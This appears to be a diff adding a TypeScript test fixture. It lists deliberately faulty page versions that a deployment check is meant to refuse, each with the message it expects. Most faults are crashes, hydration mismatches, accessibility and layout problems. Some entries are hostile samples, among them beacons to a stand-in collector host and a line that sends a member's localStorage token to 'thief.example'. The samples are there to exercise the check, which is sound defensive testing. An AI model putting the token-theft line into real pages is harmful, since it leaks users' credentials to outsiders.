@@ -1,0 +1,160 @@
+import { createHash } from 'node:crypto'
+
+import type { Craft } from './crafted-remote.ts'
+
+/** Lays an element over the whole window. */
+export const overlay = `const cover = document.createElement('div')
+  cover.id = 'cover'
+  cover.style.cssText = 'position: fixed; inset: 0; z-index: 99999'
+  document.body.append(cover)`
+
+const block = (ms: number) =>
+  `for (const end = performance.now() + ${ms}; performance.now() < end;);`
+
+const picture = "src: 'data:image/svg+xml,<svg/>', width: 20, height: 20"
+
+/** 240 kB that no compression makes small. */
+const filler = Array.from({ length: 3_750 }, (_, index) =>
+  createHash('sha256').update(String(index)).digest('hex'),
+).join('')
+
+/** Versions that must not go live because of their own pages, by what they do, with what is said of them. */
+export const refusedPages: [name: string, craft: Craft, sentence: RegExp][] = [
+  ['throws when it is shown', { effect: `throw new Error('at once')` }, /It fails: at once/],
+  [
+    'throws after two seconds',
+    { effect: `setTimeout(() => { throw new Error('too late') }, 2000)` },
+    /It fails: too late/,
+  ],
+  [
+    'rejects a promise that nobody waits for',
+    { effect: `void Promise.reject(new Error('unheard'))` },
+    /It fails: unheard/,
+  ],
+  ['reports an error', { effect: `console.error('reported')` }, /It fails: reported/],
+  [
+    'throws for members only',
+    { effect: `if (localStorage.token_link_dashboard) throw new Error('no member')` },
+    /\((?:(?!visitor)[^)])*\): It fails: no member/,
+  ],
+  [
+    'throws in Arabic only',
+    { effect: `if (document.documentElement.lang === 'ar') throw new Error('not Arabic')` },
+    /\(Arabic, [^;]+\): It fails: not Arabic/,
+  ],
+  [
+    'throws on phones only',
+    { effect: `if (innerWidth < 500) throw new Error('too narrow')` },
+    /phone\): It fails: too narrow/,
+  ],
+  [
+    'throws in a listener of the page’s own start',
+    { effect: `requestAnimationFrame(() => { undefinedFunction() })` },
+    /It fails: undefinedFunction is not defined/,
+  ],
+  [
+    'is hydrated differently for members',
+    {
+      content: `typeof localStorage === 'object' && localStorage.token_link_dashboard ? h('p', null, t.heading) : null`,
+    },
+    /member.*The browser renders it otherwise than the server has/,
+  ],
+  [
+    'is hydrated differently for everybody',
+    { content: `h('p', { translate: 'no' }, String(Math.random()))` },
+    /The browser renders it otherwise/,
+  ],
+  [
+    'registers a second React',
+    { effect: '__REACT_DEVTOOLS_GLOBAL_HOOK__.inject({})' },
+    /It renders with a React of its own/,
+  ],
+  [
+    'asks another origin',
+    { effect: `fetch('https://collect.example/visit').catch(() => {})` },
+    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+  ],
+  [
+    'loads a picture of another origin',
+    { effect: `new Image().src = 'https://collect.example/pixel.gif'` },
+    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+  ],
+  [
+    'sends a beacon to another origin',
+    { effect: `navigator.sendBeacon('https://collect.example/visit', '1')` },
+    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+  ],
+  [
+    'carries the token off',
+    {
+      effect: `if (localStorage.token_link_dashboard) location.href = 'https://thief.example/?' + localStorage.token_link_dashboard`,
+    },
+    /member.*It leaves for https:\/\/thief\.example\/ without a click/,
+  ],
+  [
+    'loads its document again',
+    { effect: `setTimeout(() => location.reload(), 1000)` },
+    /It leaves for \/probe-\w without a click/,
+  ],
+  [
+    'leads to another page',
+    {
+      effect: `setTimeout(() => { history.pushState(null, '', '/error'); dispatchEvent(new PopStateEvent('popstate')) }, 1000)`,
+    },
+    /It leads to \/error without a click/,
+  ],
+  ['opens a window', { effect: `open('/error')` }, /It opens a window without a click/],
+  [
+    'loads more than its budget',
+    { entry: `const filler = '${filler}'` },
+    /The first load of \/probe-\w .* needs .* more than its budget/,
+  ],
+  ['shows a dialog', { effect: `alert('Hello')` }, /It shows a dialog of the browser \(Hello\)/],
+  ['has no heading', { heading: `h('h2', null, t.heading)` }, /It shows no heading/],
+  [
+    'hides its heading',
+    { heading: `h('h1', { style: { opacity: 0 } }, t.heading)` },
+    /It shows no heading/,
+  ],
+  [
+    'speaks English in Arabic',
+    { ar: { intro: 'This page is ready for its first words.' } },
+    /Arabic.*It shows “This page is ready for its first words.” in Arabic too/,
+  ],
+  ['shows the id of a message', { en: { intro: 'probe.intro' } }, /It shows probe\.intro in place/],
+  ['has a picture without a name', { content: `h('img', { ${picture} })` }, /Images must have alt/],
+  ['has a button without a name', { content: `h('button', { type: 'button' })` }, /Buttons must/],
+  [
+    'has a field without a label',
+    { content: `h('input', null)` },
+    /Form elements must have labels/,
+  ],
+  [
+    'has text that is too pale',
+    { content: `h('p', { style: { color: '#ddd', background: '#fff' } }, t.intro)` },
+    /color contrast/,
+  ],
+  [
+    'covers the shop with an element of the body',
+    { effect: `${overlay}; return () => cover.remove()` },
+    /Something lies on top of the shop's controls/,
+  ],
+  [
+    'covers the shop from within its region',
+    { content: `h('div', { style: { position: 'fixed', inset: 0, zIndex: 99999 } })` },
+    /Something lies on top of the shop's controls/,
+  ],
+  [
+    'lets no click through',
+    {
+      effect: `document.body.style.pointerEvents = 'none'; return () => { document.body.style.pointerEvents = '' }`,
+    },
+    /Something lies on top of the shop's controls/,
+  ],
+  ['blocks the page when it is shown', { effect: block(5000) }, /It blocks the page for \d+ ms/],
+  [
+    'blocks the page later',
+    { effect: `setTimeout(() => { ${block(3000)} }, 1500)` },
+    /It blocks the page for \d+ ms/,
+  ],
+]
